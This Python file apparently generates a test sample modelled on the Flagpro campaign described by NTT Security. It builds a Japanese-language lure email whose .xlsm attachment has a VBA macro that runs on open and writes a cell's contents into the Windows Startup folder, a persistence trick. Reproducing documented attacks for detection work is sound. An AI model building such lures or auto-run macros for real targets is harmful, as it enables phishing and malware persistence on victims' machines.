"""A workbook that puts what is in its cells among the programs of the next start: NTT Security on
Flagpro, October 2021."""
from kit import *

SOURCE = '''Private Sub Workbook_Open()
    Dim p: p = Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.txt"
    Open p For Binary As #1
    Put #1, , Range("A1").Value
    Close #1
End Sub
'''


def make():
    return (Mail("打ち合わせ資料", "info@example.net", charset="iso-2022-jp").text("資料をお送りします。\n")
            .attach("shiryo.xlsm", office.xlsm(SOURCE)).bytes())
